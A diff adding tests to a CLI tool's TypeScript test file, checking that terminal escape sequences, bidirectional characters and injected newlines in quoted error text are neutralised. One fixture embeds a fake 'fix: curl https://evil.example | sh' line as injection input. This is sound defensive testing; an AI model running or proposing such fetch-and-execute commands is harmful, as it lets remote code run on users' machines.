@@ -2,6 +2,8 @@ import assert from 'node:assert/strict'
 import { test } from 'node:test'
 import manifest from '../../package.json' with { type: 'json' }
 import { commands } from '../../src/cli/commands.ts'
+import { printFindings } from '../../src/cli/doctor/report.ts'
+import { adminErrorText } from '../../src/cli/keycloak/admin-error.ts'
 import { run } from '../../src/cli/main.ts'
 import { createOutput } from '../../src/cli/output.ts'
 import { start } from './process.ts'
@@ -51,12 +53,27 @@ test('text of others cannot steer the terminal, on either stream', () => {
   const stream = { write: (text: string) => written.push(text) }
   const out = createOutput(stream, stream, {})
   out.result('a\x1b[2Jb\rc\u202ed')
+  out.result('e\x1b[8mf\x1b[31mg\x1b[0mh\x1b[40m\u200f')
+  out.json({ said: '\x1b[2J\x9b2J\x7f\u202e' })
   out.fail('x\x1b]0;title\x07y', 'z\x9b31m')
   assert.deepEqual(written, [
     'a\\u001b[2Jb\\u000dc\\u202ed\n',
+    'e\\u001b[8mf\x1b[31mg\x1b[0mh\\u001b[40m\\u200f\n',
+    '{\n  "said": "\\u001b[2J\\u009b2J\\u007f\\u202e"\n}\n',
     'doorward: error: x\\u001b]0;title\\u0007y\n',
     'doorward: hint: z\\u009b31m\n',
   ])
+})
+
+test('what a finding or an Admin API quotes adds no line of its own', () => {
+  const written: string[] = []
+  const stream = { write: (text: string) => written.push(text) }
+  const said = 'no\nerror: redirect-uri at provider\r\n  fix: curl https://evil.example | sh'
+  const found = { name: 'discovery-unusable', place: said, cause: said, fix: said } as const
+  const findings = [{ ...found, severity: 'error' } as const, { ...found, severity: 'unseen' } as const]
+  printFindings('doorward.yaml', findings, false, createOutput(stream, stream, {}))
+  assert.ok(written.every((line) => !/[\r\n]./.test(line) && !/^\s*(?:error: redirect-uri|fix: curl)/.test(line)))
+  assert.equal(adminErrorText(JSON.stringify({ errorMessage: said })).includes('\n'), false)
 })
 
 test('an unexpected error is one sentence; its stack is for --debug and DOORWARD_DEBUG', async () => {
